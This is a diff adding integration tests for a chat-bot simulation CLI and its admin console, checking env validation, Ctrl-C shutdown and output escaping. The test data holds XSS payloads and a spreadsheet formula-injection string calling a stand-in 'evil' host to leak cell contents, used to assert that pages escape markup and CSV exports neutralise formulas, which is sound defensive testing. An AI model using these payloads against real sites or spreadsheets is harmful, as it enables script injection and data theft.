@@ -1,5 +1,10 @@
+import { spawn } from 'node:child_process'
+import { resolve } from 'node:path'
 import IORedis from 'ioredis'
 import { runSimCli } from '../../scripts/sim-cli'
+import { freePort } from '../../src/net/free-port'
+import { deleteKeysWithPrefix } from '../../src/store/delete-prefix'
+import { parseCsv } from '../helpers/csv'
 import { runCli } from '../helpers/run-cli'
 import { REDIS_URL } from '../helpers/scenario'
 
@@ -105,4 +110,102 @@ describe('npm run sim (scripts/sim.ts)', () => {
     expect(keysBefore).toBe(0)
     expect(await countSimKeys()).toBe(0)
   })
+
+  it('a bad HTTP_PORT or a short ADMIN_TOKEN exits 2 naming the variable', async () => {
+    for (const [name, value] of [['HTTP_PORT', 'eighty'], ['ADMIN_TOKEN', 'guessme']] as const) {
+      let stderr = ''
+      const status = await runSimCli([scenario('tiny.yaml')], { stdout: () => {}, stderr: (t) => (stderr += t), env: { ...simEnv, HTTP_PORT: '8080', [name]: value } })
+      expect([name, status]).toEqual([name, 2])
+      expect(stderr).toContain(`env.${name}:`)
+      expect(stderr).not.toContain('guessme')
+    }
+  })
+
+  it('Ctrl-C before the end of the scenario stops it with 130 and says so; no keys are left', async () => {
+    const stop = new AbortController()
+    let stderr = ''
+    const status = await runSimCli([scenario('long-wait.yaml')], {
+      stdout: () => {},
+      stderr: (t) => {
+        stderr += t
+        // the bot is up (its console line): Ctrl-C now, before the scenario's end
+        if (t.startsWith('console: ')) stop.abort()
+      },
+      // in this process: its logger writes to the test's stderr
+      env: { ...simEnv, LOG_LEVEL: 'error', HTTP_PORT: String(await freePort()) },
+      signal: stop.signal,
+    })
+    expect(status).toBe(130)
+    expect(stderr).toMatch(/stopped before the end of the scenario \([012] of 3 steps ran\)/)
+    expect(await countSimKeys()).toBe(0)
+  })
+
+  it('with HTTP_PORT serves the console for the run, prints the admin sign-in link on stderr, keeps serving in the final wait, and stops on Ctrl-C leaving no keys', async () => {
+    const port = await freePort()
+    const child = spawn(process.execPath, ['--import', 'tsx', 'scripts/sim.ts', scenario('console-rehearsal.yaml')], {
+      cwd: resolve(__dirname, '..', '..'),
+      env: { ...simEnv, HTTP_PORT: String(port) },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    })
+    let stderr = ''
+    let stdout = ''
+    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d))
+    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d))
+    const exited = new Promise<number | null>((done) => child.on('close', (code) => done(code)))
+    /** waits for the work (a line on a stream, a page that shows it), never for the clock alone */
+    const until = async <T>(what: string, check: () => Promise<T | undefined> | T | undefined, ms = 60_000): Promise<T> => {
+      const end = Date.now() + ms
+      for (;;) {
+        const found = await check()
+        if (found !== undefined) return found
+        if (Date.now() > end || child.exitCode !== null) throw new Error(`no ${what} (exit ${child.exitCode}); stderr:\n${stderr}`)
+        await new Promise((r) => setTimeout(r, 50))
+      }
+    }
+    try {
+      const link = await until('console line on stderr', () => /^console: (http:\/\/127\.0\.0\.1:(\d+)\/login\/\S+)$/m.exec(stderr) ?? undefined)
+      expect(Number(link[2])).toBe(port)
+      const signIn = await fetch(link[1]!, { redirect: 'manual' })
+      expect(signIn.status).toBe(303)
+      const cookie = /qunhq_session=[^;]+/.exec(signIn.headers.get('set-cookie') ?? '')![0]
+      const base = `http://127.0.0.1:${port}`
+      const get = (path: string) => fetch(base + path, { headers: { cookie, accept: 'text/html' } })
+
+      // the removal reaches the rules page: markup shown as text, never as markup
+      const rules = await until('the removal on /rules', async () => {
+        const html = await (await get('/rules')).text()
+        return html.includes('R1') ? html : undefined
+      })
+      expect(rules).not.toContain('<script>alert(1)</script>')
+      expect(rules).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
+      expect(rules).not.toContain('<b>小号</b>')
+      const groups = await (await get('/groups')).text()
+      expect(groups).not.toContain('<img src=x')
+      expect(groups).toContain('&lt;img src=x onerror=alert(1)&gt;北京1群')
+
+      // the export holds the member's formula as text
+      const csv = parseCsv((await (await get('/export/cases.csv')).text()).replace(/^\ufeff/, ''))
+      const texts = csv.flat()
+      expect(texts.filter((c) => /^[\s]*[=+\-@]/.test(c))).toEqual([])
+      expect(texts).toContain(`'=HYPERLINK("http://evil/?"&A1,"点我") <script>alert(1)</script> 招兼职刷单，日结三百`)
+
+      // still serving: the scenario's last step waits; Ctrl-C ends it cleanly
+      await until('the final wait', () => (stderr.includes('console: serving for the final wait (600 s)') ? true : undefined))
+      expect(child.exitCode).toBeNull()
+      expect((await get('/groups')).status).toBe(200)
+      child.kill('SIGINT')
+      expect(await exited).toBe(0)
+    } finally {
+      if (child.exitCode === null) {
+        child.kill('SIGKILL')
+        await exited
+        // a killed run cannot remove its keys: this file's prefix does
+        await deleteKeysWithPrefix(REDIS_URL, RUN_PREFIX)
+      }
+    }
+    // the transcript is still JSON lines ending in the summary
+    const last = JSON.parse(stdout.trim().split('\n').at(-1)!) as { type: string }
+    expect(last.type).toBe('summary')
+    expect(await countSimKeys()).toBe(0)
+  }, 120_000)
 })
